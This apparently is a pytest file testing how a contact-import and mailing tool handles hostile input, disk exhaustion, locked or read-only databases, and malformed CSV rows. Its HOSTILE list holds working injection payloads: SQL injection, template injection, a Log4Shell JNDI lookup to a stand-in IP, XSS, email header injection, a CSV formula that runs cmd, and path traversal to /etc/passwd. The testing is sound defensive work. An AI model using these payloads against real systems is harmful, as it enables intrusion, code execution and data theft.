"""What the world does to a running shop: hostile values, a full disk, a locked or read-only store, rubbish files."""

import csv
import os
import resource
import sqlite3
import subprocess
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import timedelta
from email import message_from_bytes, policy
from pathlib import Path
from random import Random  # noqa: TID251  (tests may draw: the seed is given)

from nurture.wiring import now
from tests.projects import COMMAND, Answer, Project

HOSTILE = (
    "Robert'); DROP TABLE person;--",
    "' OR '1'='1",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${jndi:ldap://192.0.2.1/a}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "Salma\r\nBcc: everybody@shop.example\r\n\r\nHello",
    "=cmd|' /C calc'!A1",
    "../../../etc/passwd\x1b[31m",
    "-nv1- -nv2- %recipient% *|NAME|*",
)
BUSY = 30  # seconds that a command waits for the store


def people_in(project: Project) -> int:
    with sqlite3.connect(project.root / "nurture.db") as store:
        return int(store.execute("SELECT count(*) FROM person").fetchone()[0])


def limited(project: Project, *arguments: str, before: Callable[[], None]) -> Answer:
    """A command under a limit that the machine sets it."""
    done = subprocess.run(
        [COMMAND, *arguments],
        cwd=project.root,
        env=project.environment(),
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        preexec_fn=before,
    )
    return Answer(done.returncode, done.stdout, done.stderr)


def test_hostile_values_arrive_as_text_and_break_nothing(project: Project) -> None:
    project.ok("apply")
    people = [(f"c{n}", f"c{n}@shop.example", "en", "Europe/Paris", name) for n, name in enumerate(HOSTILE)]
    at = (now() - timedelta(minutes=5)).isoformat(timespec="seconds")
    project.table("contacts.csv", ["id", "email", "locale", "zone", "first_name"], people)
    project.table("events.csv", ["id", "event", "at", "ticket"],
                  [(f"c{n}", "complaint.opened", at, name) for n, name in enumerate(HOSTILE)])  # fmt: skip
    project.ok("import", "contacts", "contacts.csv")
    project.ok("import", "events", "events.csv")
    project.ok("run", "--once")
    assert people_in(project) == len(HOSTILE)
    mails = [message_from_bytes(path.read_bytes(), policy=policy.default) for path in project.mails]
    assert len(mails) == len(HOSTILE)
    assert {mail["To"].addresses[0].addr_spec for mail in mails} == {f"c{n}@shop.example" for n in range(len(HOSTILE))}
    for mail in mails:
        html = mail.get_body(("html",)).get_content()
        assert mail["Bcc"] is None
        assert "<script" not in html
        assert "onerror=alert(1)>" not in html
        assert "49" not in mail["Subject"]
        assert "__subclasses__" not in html or "{{ 7 * 7 }}" in html
    for n in range(len(HOSTILE)):
        shown = project.ok("show", f"c{n}").out
        assert "\x1b" not in shown
        assert "\r" not in shown


def test_a_full_disk_is_said_and_what_was_there_stays(shop: Callable[[int], Project]) -> None:
    project = shop(5)
    people = [(f"n{n}", f"n{n}@shop.example", "en", "x" * 60) for n in range(20_000)]
    project.table("more.csv", ["id", "email", "locale", "first_name"], people)
    most = (project.root / "nurture.db").stat().st_size + 300_000

    def full() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (most, most))

    answer = limited(project, "import", "contacts", "more.csv", before=full)
    assert answer.code == 4, answer
    assert "Traceback" not in answer.err
    assert "n1@shop.example" not in answer.err
    with sqlite3.connect(project.root / "nurture.db") as store:
        assert store.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    before = people_in(project)
    assert 5 <= before < 20_005
    project.ok("import", "contacts", "more.csv")
    assert people_in(project) == 20_005


@contextmanager
def held(project: Project) -> Iterator[None]:
    """Somebody else writes to the store, and does not end."""
    with sqlite3.connect(project.root / "nurture.db", isolation_level=None) as other:
        other.execute("BEGIN IMMEDIATE")
        yield
        other.execute("ROLLBACK")


def test_a_store_that_somebody_holds_is_waited_for_and_said(shop: Callable[[int], Project]) -> None:
    project = shop(2)
    with held(project):
        answer = project.run("run", "--once")
    assert answer.code == 4, answer
    assert "Traceback" not in answer.err
    assert project.mails == []
    project.ok("run", "--once")
    assert len(project.mails) == 2


def test_a_store_that_cannot_be_written_to_sends_nothing(shop: Callable[[int], Project]) -> None:
    """Root may write anywhere: the right to do so is given up first, by Debian's setpriv."""
    project = shop(2)
    given_up = ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--inh-caps=-dac_override,-dac_read_search"]
    before = given_up if os.geteuid() == 0 else []
    files = [project.root, *project.root.glob("nurture.db*")]
    try:
        for file in files:
            file.chmod(0o555 if file.is_dir() else 0o444)
        done = subprocess.run(
            [*before, COMMAND, "run", "--once"],
            cwd=project.root,
            env=project.environment(),
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )
    finally:
        for file in files:
            file.chmod(0o755 if file.is_dir() else 0o644)
    assert done.returncode == 4, done
    assert "Traceback" not in done.stderr
    assert project.mails == []
    project.ok("run", "--once")
    assert len(project.mails) == 2


def rubbish(path: Path, rows: int, good_each: int) -> int:
    """A file of contacts in which few rows are any good; how many are."""
    random, good = Random(7), 0  # noqa: S311  (no secret)
    with path.open("wb") as file:
        file.write(b"id,email,locale,first_name\r\n")
        for row in range(rows):
            if row % good_each == 0:
                good += 1
                file.write(f"g{row},g{row}@shop.example,en,Salma\r\n".encode())
            else:
                bad = random.choice((
                    b"x%d,not an address,en,A" % row, b"x%d,%s%d@shop.example,en,B" % (row, b"a" * 300, row),
                    b"x%d,@,,\xff\xfe" % row, b"x%d,a@b@c,en" % row, b"x%d,\x00\x1b[2J,en,%s" % (row, b"C" * 900),
                ))  # fmt: skip
                file.write(bad + b"\r\n")
    return good


def test_rubbish_in_a_file_is_rejected_row_by_row_and_the_good_rows_come_in(project: Project) -> None:
    project.ok("apply")
    good = rubbish(project.root / "list.csv", 3_000, 10)
    answer = project.run("import", "contacts", "list.csv")
    assert "Traceback" not in answer.err
    assert people_in(project) == good
    (rejects,) = project.root.glob("*reject*")
    with rejects.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) + good == 3_000
    assert all(row["reason"] for row in rows)
